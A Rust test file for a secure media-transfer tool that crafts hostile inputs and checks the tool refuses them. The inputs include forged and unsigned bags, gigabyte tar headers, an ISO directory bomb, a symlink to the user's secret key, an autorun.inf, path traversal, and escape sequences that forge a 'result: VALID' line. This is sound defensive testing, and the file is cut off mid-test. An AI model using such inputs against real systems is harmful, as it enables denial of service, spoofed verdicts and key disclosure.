//! The trust boundary (issue 12): media crafted by an outsider or by a hostile but
//! keyed sender, each built here, against `verify` and `open` — the user's flags decide
//! which checks apply, nothing unauthenticated is believed, decoded or printed, every
//! count and header from a medium is bounded.

use std::fs;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use crate::util::*;

/// Two parties, an extract, and a ledger of this test's own.
struct T {
    p: Parties,
    ledger: PathBuf,
}

fn setup(files: u8, size: usize) -> T {
    let p = parties(files, size);
    let ledger = p.dir.path().join("ledger.sqlite");
    T { p, ledger }
}

impl T {
    fn path(&self, name: &str) -> PathBuf {
        self.p.dir.path().join(name)
    }

    fn isou(&self) -> Command {
        let mut c = isou();
        c.env("ISOU_LEDGER", &self.ledger);
        c
    }

    /// Seals the extract onto a new folder `name`.
    fn seal(&self, name: &str, args: &[&str]) -> PathBuf {
        let m = self.path(name);
        fs::create_dir_all(&m).unwrap();
        let o = run(self
            .isou()
            .args([
                "seal",
                "--class",
                "anonymized",
                "-q",
                "--to",
                &self.p.rcard,
                "-i",
            ])
            .arg(&self.p.sender)
            .arg("--medium")
            .arg(&m)
            .args(args)
            .arg(&self.p.extract));
        assert!(o.status.success(), "{}", stderr(&o));
        m
    }

    fn verify(&self, media: &[&Path], args: &[&str]) -> Output {
        run(self.isou().arg("verify").args(args).args(media))
    }

    fn open(&self, medium: &Path, out: &Path, args: &[&str]) -> Output {
        run(self
            .isou()
            .arg("open")
            .arg(medium)
            .arg("-i")
            .arg(&self.p.recipient)
            .arg("--out")
            .arg(out)
            .args(args))
    }

    /// `open --signer <the sender>` that must end within `secs`.
    fn open_within(&self, medium: &Path, out: &Path, secs: u64) -> Output {
        run_within(
            self.isou()
                .args(["open", "--signer", &self.p.card, "-i"])
                .arg(&self.p.recipient)
                .arg("--out")
                .arg(out)
                .arg(medium),
            secs,
        )
    }

    fn events(&self) -> Vec<serde_json::Value> {
        ledger_events(&self.ledger)
    }

    /// The recipient's age public key.
    fn recipient_key(&self) -> String {
        self.p.rcard.split_whitespace().nth(1).unwrap().to_string()
    }
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(b)
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

/// The binary with its address space limited to `kib` KiB (`ulimit -v`): a command
/// that tried to buffer a gigabyte would fail to allocate (and abort), not succeed.
fn limited(t: &T, kib: u64) -> Command {
    let mut c = Command::new("sh");
    c.arg("-c")
        .arg(format!("ulimit -v {kib} && exec \"$0\" \"$@\""))
        .arg(env!("CARGO_BIN_EXE_isou"))
        .env_remove("ISOU_IDENTITY")
        .env("ISOU_LEDGER", &t.ledger)
        .env("ISOU_POLICY", "")
        .env("XDG_CONFIG_HOME", t.path("no-config"))
        .stdin(Stdio::null());
    c
}

/// A plain BagIt bag (no signature, no isou fields) with one payload file and the
/// given extra `bag-info.txt` lines: what an outsider makes with any BagIt tool.
fn plain_bag(dir: &Path, name: &str, info: &str) -> PathBuf {
    let bag = dir.join(name);
    fs::create_dir_all(bag.join("data")).unwrap();
    fs::write(
        bag.join("bagit.txt"),
        "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n",
    )
    .unwrap();
    let payload = b"outsider's data\n";
    fs::write(bag.join("data/payload.000"), payload).unwrap();
    fs::write(
        bag.join("manifest-sha256.txt"),
        format!("{}  data/payload.000\n", sha256_hex(payload)),
    )
    .unwrap();
    fs::write(bag.join("bag-info.txt"), info).unwrap();
    let tags: String = ["bagit.txt", "bag-info.txt", "manifest-sha256.txt"]
        .iter()
        .map(|f| format!("{}  {f}\n", sha256_hex(&fs::read(bag.join(f)).unwrap())))
        .collect();
    fs::write(bag.join("tagmanifest-sha256.txt"), tags).unwrap();
    bag
}

/// A tar of `files` and an `ISOU-CONTENTS.json` naming `shipment` (built as seal does,
/// but by the test: the contents may lie).
fn tar_with_contents(files: &[(&str, &[u8])], shipment: &str, listed: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, body) in files {
        let mut h = tar::Header::new_ustar();
        h.set_size(body.len() as u64);
        h.set_mode(0o600);
        h.set_cksum();
        b.append_data(&mut h, name, *body).unwrap();
    }
    let contents = serde_json::json!({
        "format": "isou-contents/1",
        "shipment_id": shipment,
        "files": listed.iter().map(|(p, body)| serde_json::json!({
            "path": p, "size": body.len(), "sha256": sha256_hex(body), "mtime": 0
        })).collect::<Vec<_>>(),
        "directories": [],
    });
    let json = serde_json::to_vec(&contents).unwrap();
    let mut h = tar::Header::new_ustar();
    h.set_size(json.len() as u64);
    h.set_mode(0o600);
    h.set_cksum();
    b.append_data(&mut h, "ISOU-CONTENTS.json", &json[..])
        .unwrap();
    b.into_inner().unwrap()
}

/// A raw 512-byte tar header.
fn raw_header(name: &str, kind: u8, size: u64) -> [u8; 512] {
    let mut h = tar::Header::new_ustar();
    h.set_path(name).unwrap();
    h.set_size(size);
    h.set_mode(0o600);
    h.set_entry_type(tar::EntryType::new(kind));
    h.set_cksum();
    *h.as_bytes()
}

// 1 ─ authenticity decides, not the medium ─────────────────────────────────────────

#[test]
fn verify_with_a_signer_refuses_a_bag_that_carries_no_signature() {
    let mut t = setup(2, 500_000);
    // An outsider's plain BagIt bag with their own payload.
    let bag = plain_bag(t.p.dir.path(), "outsider", "External-Identifier: ISOU-X\n");
    let o = t.verify(&[&bag], &["--signer", &t.p.card]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("BAD: the medium carries no signature"),
        "{}",
        stdout(&o)
    );
    assert!(stdout(&o).contains("result: INVALID"));
    // A genuine signed volume 1 of 2 beside an outsider's unsigned "2 of 2" of the same
    // set.
    let v2 = t.path("v2");
    fs::create_dir(&v2).unwrap();
    // Sealed by the sender, in her ledger (here, verify would be her own check before
    // shipping, not a receipt: issue 15).
    let senders = t.path("sender.sqlite");
    let recipients_ledger = std::mem::replace(&mut t.ledger, senders);
    let v1 = t.seal(
        "v1",
        &[
            "--medium",
            &v2.display().to_string(),
            "--volume-size",
            "1M",
            "--compression",
            "none",
        ],
    );
    t.ledger = recipients_ledger;
    let group = fs::read_to_string(v1.join("bag-info.txt"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("Bag-Group-Identifier: ").map(str::to_string))
        .unwrap();
    assert_eq!(
        t.verify(&[&v1, &v2], &["--signer", &t.p.card])
            .status
            .code(),
        Some(0)
    );
    fs::remove_dir_all(&v2).unwrap();
    let fake = plain_bag(
        t.p.dir.path(),
        "v2",
        &format!(
            "Bag-Count: 2 of 2\nBag-Group-Identifier: {group}\nExternal-Identifier: {group}\n"
        ),
    );
    let o = t.verify(&[&v1, &fake], &["--signer", &t.p.card]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("BAD: the medium carries no signature"),
        "{}",
        stdout(&o)
    );
    // Only the genuine set counts as the receipt of a shipment; the two others are
    // checks of those media.
    assert_eq!(count_events(&t.ledger, "received"), 1);
    assert_eq!(count_events(&t.ledger, "checked"), 2);
}

#[test]
fn open_without_a_pinned_sender_needs_an_explicit_any_sender_which_is_recorded() {
    let t = setup(1, 300_000);
    let m = t.seal("usb", &[]);
    let out = t.path("out");
    let o = t.open(&m, &out, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(stderr(&o).contains("--any-sender"), "{}", stderr(&o));
    assert!(!out.exists());
    assert_eq!(count_events(&t.ledger, "opened"), 0);
    // Loud even with -q, and recorded as not checked.
    let o = t.open(&m, &out, &["-q", "--any-sender"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("the sender is NOT checked"),
        "{}",
        stderr(&o)
    );
    let opened: Vec<_> = t
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "opened")
        .collect();
    assert_eq!(opened.len(), 1);
    assert_eq!(opened[0]["body"]["sender_checked"], false);
    assert!(opened[0]["body"]["signer"]
        .as_str()
        .unwrap()
        .starts_with("SHA256:"));
    // --signer and --any-sender together make no sense.
    let o = t.open(
        &m,
        &t.path("out2"),
        &["--any-sender", "--signer", &t.p.card],
    );
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn a_shipment_seen_before_is_named_and_the_envelope_number_must_match() {
    let mut t = setup(1, 300_000);
    let m = t.seal("usb", &["--tracking-number", "131-12-38385-2"]);
    // Received by the recipient, in her own ledger (in the sender's, verify is her
    // check before shipping: issue 15).
    t.ledger = t.path("recipient.sqlite");
    let signer = ["--signer", t.p.card.as_str()];
    let o = t.verify(&[&m], &signer);
    assert!(o.status.success(), "{}", stdout(&o));
    assert!(!stderr(&o).contains("already"), "{}", stderr(&o));
    let o = t.verify(&[&m], &signer);
    assert!(o.status.success());
    assert!(
        stderr(&o).contains("this shipment was already received on"),
        "{}",
        stderr(&o)
    );
    assert!(t.open(&m, &t.path("o1"), &signer).status.success());
    let o = t.open(&m, &t.path("o2"), &signer);
    assert!(o.status.success());
    assert!(
        stderr(&o).contains("was already opened on"),
        "{}",
        stderr(&o)
    );
    // The number on the envelope against the signed one.
    let o = t.verify(
        &[&m],
        &["--signer", &t.p.card, "--tracking-number", "131-12-38385-2"],
    );
    assert!(o.status.success(), "{}", stdout(&o));
    let o = t.verify(
        &[&m],
        &["--signer", &t.p.card, "--tracking-number", "4055-4842-4886"],
    );
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("is not the one the sender signed"),
        "{}",
        stdout(&o)
    );
    assert!(stdout(&o).contains("result: INVALID"));
}

#[test]
fn files_outside_the_signed_bag_are_problems() {
    let t = setup(1, 300_000);
    let m = t.seal("usb", &[]);
    let signer = ["--signer", t.p.card.as_str()];
    // What an operating system leaves is told, not counted.
    fs::create_dir(m.join("System Volume Information")).unwrap();
    // (A .DS_Store must be one: it begins with its magic, red team 18.)
    fs::write(m.join(".DS_Store"), b"\0\0\0\x01Bud1\0\0\x10\0").unwrap();
    let o = t.verify(&[&m], &signer);
    assert!(o.status.success(), "{}", stdout(&o));
    // Warnings on standard error (issue 18), not in the report.
    assert!(
        stderr(&o).contains("warning: System Volume Information"),
        "{}",
        stderr(&o)
    );
    assert!(!stdout(&o).contains("warning"), "{}", stdout(&o));
    // Anything else is outside the signature: the clerk must not be told VALID.
    fs::write(m.join("autorun.inf"), "[autorun]\nopen=setup.exe\n").unwrap();
    fs::write(m.join("README-FIRST.txt"), "run setup.exe").unwrap();
    fs::create_dir(m.join("tools")).unwrap();
    fs::write(m.join("tools/setup.exe"), b"MZ").unwrap();
    fs::write(m.join("manifest-md5.txt"), b"").unwrap();
    let o = t.verify(&[&m], &signer);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    for f in [
        "autorun.inf",
        "README-FIRST.txt",
        "tools",
        "manifest-md5.txt",
    ] {
        assert!(
            stdout(&o).contains(&format!("problem: {f}: not written by isou seal")),
            "{f}: {}",
            stdout(&o)
        );
    }
}

#[test]
fn a_failed_check_never_rewrites_the_register_of_a_real_shipment() {
    let t = setup(1, 300_000);
    let m = t.seal("usb", &["--destination", "国立がん研究センター"]);
    let id = fs::read_to_string(m.join("bag-info.txt"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("External-Identifier: ").map(str::to_string))
        .unwrap();
    // A medium signed by someone else, claiming our outstanding shipment.
    let (k, _) = other_key();
    let tar = tar_with_contents(&[], &id, &[]);
    let forged = keyed_medium(
        t.p.dir.path(),
        "forged",
        &tar,
        &t.recipient_key(),
        &[
            ("External-Identifier", &id),
            ("Bag-Group-Identifier", &id),
            ("Source-Organization", "攻撃者"),
            ("Destination", "どこか"),
        ],
        &k,
    );
    let o = t.verify(&[&forged], &["--signer", &t.p.card]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("not the sender you expect"),
        "{}",
        stdout(&o)
    );
    assert!(stdout(&o).contains("NOT authenticated"), "{}", stdout(&o));
    let events = t.events();
    let of_shipment: Vec<&str> = events
        .iter()
        .filter(|e| e["shipment"] == id.as_str())
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(of_shipment, ["sealed"], "{events:#?}");
    let checked: Vec<_> = events.iter().filter(|e| e["kind"] == "checked").collect();
    assert_eq!(checked.len(), 1);
    assert!(checked[0]["shipment"]
        .as_str()
        .unwrap()
        .starts_with("MEDIUM-"));
    assert_eq!(checked[0]["body"]["claimed"]["shipment"], id.as_str());
    assert_eq!(checked[0]["body"]["authenticated"], false);
    // Still under way, and its row unchanged.
    let o = run(t.isou().args(["record", "list", "--open", "--json"]));
    let open: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert!(
        open.iter().any(|e| e["shipment"] == id.as_str()),
        "{open:#?}"
    );
    let o = run(t.isou().args(["record", "export", "--format", "csv"]));
    let csv = String::from_utf8_lossy(&o.stdout).into_owned();
    let row = csv.lines().find(|l| l.starts_with(&id)).unwrap();
    assert!(
        row.contains("国立がん研究センター") && !row.contains("攻撃者") && !row.contains("どこか"),
        "{row}"
    );
}

// 7 ─ no unauthenticated byte reaches a decoder ────────────────────────────────────

#[test]
fn a_swapped_segment_is_refused_before_any_of_it_is_decrypted() {
    if !have("strace") {
        return;
    }
    let t = setup(1, 30_000_000);
    let m = t.seal("usb", &["--compression", "none"]);
    // An outsider keeps the genuine tag files and signature and replaces the segment
    // with an age file to the recipient's public key (larger than any read-ahead).
    // 24 MB, beyond the decryptor's read-ahead (a few MiB), uncompressed, and of
    // exactly the genuine segment's size (a different size is refused even earlier,
    // against the signed Payload-Oxum).
    let want = fs::metadata(m.join("data/payload.000")).unwrap().len();
    let key = other_key().0;
    // An age file a little smaller than the genuine segment, padded with zeros to its
    // exact size (the padding would only fail at the very end of the age stream).
    let evil = tar_with_contents(&[("attacker.txt", &vec![b'A'; 24_000_000])], "X", &[]);
    let swapped = keyed_medium(t.p.dir.path(), "evil", &evil, &t.recipient_key(), &[], &key);
    let mut bytes = fs::read(swapped.join("data/payload.000")).unwrap();
    assert!((bytes.len() as u64) < want);
    bytes.resize(want as usize, 0);
    fs::write(m.join("data/payload.000"), bytes).unwrap();
    let out = t.path("out");
    let trace = t.path("open.strace");
    let o = run(Command::new("strace")
        .args(["-f", "-qq", "-e", "trace=openat,mkdir,mkdirat", "-o"])
        .arg(&trace)
        .arg(env!("CARGO_BIN_EXE_isou"))
        .env("ISOU_LEDGER", &t.ledger)
        .env("ISOU_POLICY", "")
        .env("XDG_CONFIG_HOME", t.path("no-config"))
        .args(["open", "--signer", &t.p.card, "-i"])
        .arg(&t.p.recipient)
        .arg("--out")
        .arg(&out)
        .arg(&m));
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("payload.000 does not match its manifest checksum"),
        "{}",
        stderr(&o)
    );
    let calls = fs::read_to_string(&trace).unwrap();
    // Nothing was ever created inside the staging folder: the attacker's archive was
    // never decrypted, let alone extracted.
    let created_inside: Vec<&str> = calls
        .lines()
        .filter(|l| l.contains("isou-staging-") && l.contains("O_CREAT"))
        .collect();
    assert!(created_inside.is_empty(), "{created_inside:#?}");
    assert!(!calls.contains("attacker.txt"));
    assert!(!out.exists());
}

// 8 ─ counts bounded ───────────────────────────────────────────────────────────────

#[test]
fn a_huge_bag_count_is_refused_before_anything_is_sized_by_it() {
    let t = setup(1, 1000);
    for n in ["20000000", "18446744073709551615"] {
        let bag = plain_bag(
            t.p.dir.path(),
            &format!("count-{n}"),
            &format!("Bag-Count: 1 of {n}\nBag-Group-Identifier: G\n"),
        );
        // Its payload is named as isou's segments are: it is checked as an isou medium
        // (red team 18, finding 01), whose set depends on the count: refused, bounded.
        // (A plain bag's Bag-Count is metadata: bagit_table.rs.)
        let o = run_within(limited(&t, 400_000).args(["verify"]).arg(&bag), 30);
        assert_eq!(o.status.code(), Some(1), "{n}: {}", stderr(&o));
        assert!(
            o.stdout.len() + o.stderr.len() < 20_000,
            "{n}: {} bytes of output",
            o.stdout.len()
        );
        assert!(stdout(&o).contains("Bag-Count"), "{n}: {}", stdout(&o));
        // With a sender pinned, the same.
        let o = run_within(
            limited(&t, 400_000)
                .args(["verify", "--signer", &t.p.card])
                .arg(&bag),
            30,
        );
        assert_eq!(o.status.code(), Some(1), "{n}: {}", stderr(&o));
        assert!(
            o.stdout.len() + o.stderr.len() < 20_000,
            "{n}: {} bytes of output",
            o.stdout.len()
        );
        assert!(stdout(&o).contains("Bag-Count"), "{n}: {}", stdout(&o));
    }
}

// 9 ─ tar headers bounded ──────────────────────────────────────────────────────────

/// A zstd stream of `head` followed by `n` bytes of `fill`, compressed as it goes.
fn zstd_of(head: &[u8], fill: u8, n: u64) -> Vec<u8> {
    let mut out = Vec::new();
    let input = head.chain(std::io::repeat(fill).take(n));
    zstd::stream::copy_encode(input, &mut out, 1).unwrap();
    out
}

#[test]
fn gigabyte_tar_headers_are_refused_before_they_are_read() {
    let t = setup(1, 1000);
    let (k, _) = other_key();
    let gib: u64 = 1 << 30;
    for (name, kind, expect) in [
        ("long-name", b'L', "GNU long name"),
        ("long-link", b'K', "GNU long"),
        ("pax", b'x', "PAX"),
    ] {
        let payload = zstd_of(&raw_header("././@LongLink", kind, gib), b'a', gib);
        let m = keyed_medium(t.p.dir.path(), name, &payload, &t.recipient_key(), &[], &k);
        let out = t.path(&format!("{name}-out"));
        // 600 MB of address space: far less than the header claims.
        let o = run_within(
            limited(&t, 600_000)
                .args(["open", "--any-sender", "-i"])
                .arg(&t.p.recipient)
                .arg("--out")
                .arg(&out)
                .arg(&m),
            60,
        );
        assert_eq!(o.status.code(), Some(1), "{name}: {}", stderr(&o));
        assert!(stderr(&o).contains(expect), "{name}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("do not use this medium"),
            "{name}: {}",
            stderr(&o)
        );
        assert!(!out.exists());
    }
}

// 10 ─ ISO 9660 directories bounded ────────────────────────────────────────────────

fn both32(v: u32) -> [u8; 8] {
    let mut b = [0u8; 8];
    b[..4].copy_from_slice(&v.to_le_bytes());
    b[4..].copy_from_slice(&v.to_be_bytes());
    b
}

fn dir_record(name: &[u8], sector: u32, size: u32) -> Vec<u8> {
    let len = 33 + name.len() + (name.len() + 1) % 2;
    let mut r = vec![0u8; len];
    r[0] = len as u8;
    r[2..10].copy_from_slice(&both32(sector));
    r[10..18].copy_from_slice(&both32(size));
    r[25] = 2; // a directory
    r[28..32].copy_from_slice(&[1, 0, 0, 1]);
    r[32] = name.len() as u8;
    r[33..33 + name.len()].copy_from_slice(name);
    r
}

/// A primary-only ISO 9660 image of `len` bytes (sparse) whose root directory at
/// sector 20 holds `records`.
fn hand_made_iso(path: &Path, records: &[Vec<u8>], len: u64) {
    use std::os::unix::fs::FileExt;
    let mut dir = Vec::new();
    let mut all = vec![dir_record(&[0], 20, 0), dir_record(&[1], 20, 0)];
    all.extend(records.iter().cloned());
    for r in all {
        if dir.len() % 2048 + r.len() > 2048 {
            dir.resize(dir.len().div_ceil(2048) * 2048, 0);
        }
        dir.extend(r);
    }
    dir.resize(dir.len().div_ceil(2048) * 2048, 0);
    let dir_len = dir.len() as u32;
    dir[..34].copy_from_slice(&dir_record(&[0], 20, dir_len));
    let mut pvd = vec![0u8; 2048];
    pvd[0] = 1;
    pvd[1..6].copy_from_slice(b"CD001");
    pvd[6] = 1;
    pvd[80..88].copy_from_slice(&both32((len / 2048) as u32));
    pvd[128..132].copy_from_slice(&[0, 8, 8, 0]);
    pvd[156..190].copy_from_slice(&dir_record(&[0], 20, dir_len));
    let mut end = vec![0u8; 2048];
    end[0] = 255;
    end[1..6].copy_from_slice(b"CD001");
    end[6] = 1;
    let f = fs::File::create(path).unwrap();
    f.set_len(len).unwrap();
    f.write_all_at(&pvd, 16 * 2048).unwrap();
    f.write_all_at(&end, 17 * 2048).unwrap();
    f.write_all_at(&dir, 20 * 2048).unwrap();
}

#[test]
fn iso_directories_claiming_more_than_the_image_stop_at_once() {
    let t = setup(1, 1000);
    // 20,000 directories each claiming 16 MiB from its own sector of a 58 MB image:
    // once ≈640 GB of reading.
    let n = 20_000u32;
    let records: Vec<Vec<u8>> = (0..n)
        .map(|i| dir_record(format!("D{i}").as_bytes(), 2000 + i, 16 << 20))
        .collect();
    let img = t.path("bomb.iso");
    hand_made_iso(&img, &records, (2000 + n as u64) * 2048 + (16 << 20));
    let o = run_within(t.isou().arg("verify").arg(&img), 30);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("its directories claim more bytes than the image holds"),
        "{}",
        stdout(&o)
    );
    // A name from the image in a damage report reaches the terminal inert.
    let img = t.path("escapes.iso");
    hand_made_iso(
        &img,
        &[dir_record(b"E\x1b]0;pwned\x07", 5000, 2048)],
        40 * 2048,
    );
    let o = run_within(t.isou().arg("verify").arg(&img), 30);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stdout(&o).contains("damaged ISO 9660 image"),
        "{}",
        stdout(&o)
    );
    assert!(!o
        .stdout
        .iter()
        .chain(&o.stderr)
        .any(|b| *b == 0x1b || *b == 0x07));
}

// 11 ─ no panic on any input ───────────────────────────────────────────────────────

#[test]
fn a_checksum_of_multibyte_characters_is_refused_without_a_panic() {
    let t = setup(1, 1000);
    let (k, _) = other_key();
    let m = keyed_medium(
        t.p.dir.path(),
        "m",
        &tar_with_contents(&[], "S", &[]),
        &t.recipient_key(),
        &[],
        &k,
    );
    // 64 bytes, not 64 hex digits; signed by the (hostile) sender.
    let tricky = format!("{}é{}", "a".repeat(31), "b".repeat(31));
    assert_eq!(tricky.len(), 64);
    fs::write(
        m.join("manifest-sha256.txt"),
        format!("{tricky}  data/payload.000\n"),
    )
    .unwrap();
    let tags: String = ["bagit.txt", "bag-info.txt", "manifest-sha256.txt"]
        .iter()
        .map(|f| format!("{}  {f}\n", sha256_hex(&fs::read(m.join(f)).unwrap())))
        .collect();
    fs::write(m.join("tagmanifest-sha256.txt"), &tags).unwrap();
    fs::write(
        m.join("tagmanifest-sha256.txt.sig"),
        isou::signature::sign(&k, tags.as_bytes()).unwrap(),
    )
    .unwrap();
    let o = t.open(&m, &t.path("out"), &["--any-sender"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("has no SHA-256 checksum"),
        "{}",
        stderr(&o)
    );
    let o = t.verify(&[&m], &[]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
}

// 12 ─ special files ───────────────────────────────────────────────────────────────

fn mkfifo(p: &Path) {
    let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
}

#[test]
fn fifos_and_links_on_a_medium_are_never_read() {
    let t = setup(1, 300_000);
    let signer = ["--signer", t.p.card.as_str()];
    // A FIFO in place of bagit.txt: verify and open.
    let m = t.seal("fifo-bagit", &[]);
    fs::remove_file(m.join("bagit.txt")).unwrap();
    mkfifo(&m.join("bagit.txt"));
    let o = run_within(t.isou().arg("verify").args(signer).arg(&m), 30);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(stdout(&o).contains("not a regular file"), "{}", stdout(&o));
    let o = t.open_within(&m, &t.path("o1"), 30);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    // A FIFO in place of the segment.
    let m = t.seal("fifo-segment", &[]);
    fs::remove_file(m.join("data/payload.000")).unwrap();
    mkfifo(&m.join("data/payload.000"));
    let o = t.open_within(&m, &t.path("o2"), 30);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(stderr(&o).contains("not a regular file"), "{}", stderr(&o));
    // bag-info.txt a link to the reader's own identity file: never read, never printed.
    let m = t.seal("link", &[]);
    fs::remove_file(m.join("bag-info.txt")).unwrap();
    std::os::unix::fs::symlink(&t.p.recipient, m.join("bag-info.txt")).unwrap();
    let secret = fs::read_to_string(&t.p.recipient).unwrap();
    let age_key = secret
        .lines()
        .find(|l| l.starts_with("AGE-SECRET-KEY-"))
        .unwrap();
    let seed = secret
        .lines()
        .find_map(|l| l.strip_prefix("# ISOU-SIGNING-KEY-ED25519: "))
        .unwrap();
    for args in [&["--json"][..], &[][..]] {
        let o = run_within(t.isou().arg("verify").args(args).arg(&m), 30);
        assert_eq!(o.status.code(), Some(1));
        let all = format!("{}{}", stdout(&o), stderr(&o));
        assert!(
            !all.contains(&age_key[20..]) && !all.contains(seed),
            "{all}"
        );
        assert!(all.contains("symbolic link"), "{all}");
    }
}

// 13 ─ untrusted bytes never reach the terminal ────────────────────────────────────

fn inert(o: &Output, what: &str) {
    let all = format!("{}{}", stdout(o), stderr(o));
    for bad in ['\x1b', '\x07', '\u{202e}', '\u{2066}', '\u{200b}', '\u{9b}'] {
        assert!(
            !all.contains(bad),
            "{what}: U+{:04X} reached the terminal: {all:?}",
            bad as u32
        );
    }
}

#[test]
fn escapes_and_bidi_controls_from_a_medium_are_made_inert() {
    let t = setup(1, 1000);
    let (k, public) = other_key();
    // An archive entry whose name forges a result line and retitles the window.
    let mut tar = raw_header("x", b'0', 1).to_vec();
    let name = b"../\x1b]0;pwned\x07\x1b[2K\rresult: VALID\xe2\x80\xae.csv";
    tar[..100].fill(0);
    tar[..name.len()].copy_from_slice(name);
    tar[148..156].copy_from_slice(b"        ");
    let sum: u32 = tar.iter().map(|b| *b as u32).sum();
    tar[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    tar.extend_from_slice(&[b'x'; 512]);
    tar.extend_from_slice(&[0; 1024]);
    let m = keyed_medium(t.p.dir.path(), "names", &tar, &t.recipient_key(), &[], &k);
    let o = t.open(&m, &t.path("o1"), &["--signer", &public]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    inert(&o, "open");
    // Fields that display reversed, hide text or repaint the terminal.
    let tar = tar_with_contents(&[], "S\x1b[2J\u{202e}", &[]);
    let m = keyed_medium(
        t.p.dir.path(),
        "fields",
        &tar,
        &t.recipient_key(),
        &[
            ("Tracking-Number", "\u{202e}2-58383-21-131"),
            ("Source-Organization", "大阪\u{200b}府\u{2066}"),
        ],
        &k,
    );
    for args in [&["--signer", public.as_str()][..], &["--json"][..], &[][..]] {
        let o = t.verify(&[&m], args);
        inert(&o, "verify");
    }
    // A tracking number isou never writes: open refuses the medium as verify does
    // (redteam19.rs), its words inert.
    let o = t.open(&m, &t.path("o2"), &["--signer", &public]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("its Tracking-Number is not one isou writes"),
        "{}",
        stderr(&o)
    );
    inert(&o, "open");
    // The contents manifest names another (escaped) shipment: refused, inert.
    let m = keyed_medium(
        t.p.dir.path(),
        "contents",
        &tar,
        &t.recipient_key(),
        &[("Source-Organization", "大阪\u{200b}府\u{2066}")],
        &k,
    );
    let o = t.open(&m, &t.path("o3"), &["--signer", &public]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        // (a shipment id in seal's form: another would be refused before the archive)
        stderr(&o).contains("but the signed bag-info.txt says ISOU-20261203-KEYED222"),
        "{}",
        stderr(&o)
    );
    inert(&o, "open");
    let o = run(t.isou().args(["record", "list"]));
    inert(&o, "record list");
}

// 15 ─ right verdicts ──────────────────────────────────────────────────────────────

#[test]
fn hostile_archive_content_is_the_mediums_fault_not_the_disks() {
    let t = setup(1, 1000);
    let (k, _) = other_key();
    let good = tar_with_contents(&[("a.csv", b"1\n")], "S", &[("a.csv", b"1\n")]);
    let mut bad_sum = good.clone();
    bad_sum[148] ^= 1;
    let mut sparse = raw_header("s.csv", b'S', 0).to_vec();
    sparse.extend_from_slice(&[0; 1024]);
    let pax_size = {
        let rec = b"11 size=99\n";
        let mut v = raw_header("PaxHeader/x", b'x', rec.len() as u64).to_vec();
        v.extend_from_slice(rec);
        v.resize(1024, 0);
        v.extend_from_slice(&raw_header("a.csv", b'0', 1));
        v.extend_from_slice(&[b'1'; 512]);
        v.extend_from_slice(&[0; 1024]);
        v
    };
    let corrupt_zstd = {
        let mut z = zstd::stream::encode_all(&good[..], 3).unwrap();
        let n = z.len();
        for b in &mut z[12..n - 4] {
            *b ^= 0x5a;
        }
        z
    };
    let wide_window = {
        let mut e = zstd::Encoder::new(Vec::new(), 3).unwrap();
        e.set_parameter(zstd::stream::raw::CParameter::WindowLog(27))
            .unwrap();
        e.include_contentsize(false).unwrap();
        e.write_all(&good).unwrap();
        e.finish().unwrap()
    };
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("bad tar checksum", bad_sum),
        ("truncated tar", good[..700].to_vec()),
        ("GNU sparse", sparse),
        ("PAX size", pax_size),
        ("corrupt zstd", corrupt_zstd),
        ("zstd window", wide_window),
    ];
    for (name, payload) in cases {
        let m = keyed_medium(
            t.p.dir.path(),
            &name.replace(' ', "-"),
            &payload,
            &t.recipient_key(),
            &[],
            &k,
        );
        let out = t.path(&format!("{}-out", name.replace(' ', "-")));
        let o = t.open(&m, &out, &["--any-sender"]);
        assert_eq!(o.status.code(), Some(1), "{name}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("do not use this medium"),
            "{name}: {}",
            stderr(&o)
        );
        assert!(
            !stderr(&o).contains("check the disk"),
            "{name}: {}",
            stderr(&o)
        );
        assert!(!out.exists());
    }
}

// 16 ─ private output ──────────────────────────────────────────────────────────────

#[test]
fn output_folders_are_private_whatever_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let t = setup(1, 1000);
    fs::create_dir_all(t.p.extract.join("sub")).unwrap();
    fs::write(t.p.extract.join("sub/b.csv"), "2\n").unwrap();
    let m = t.seal("usb", &[]);
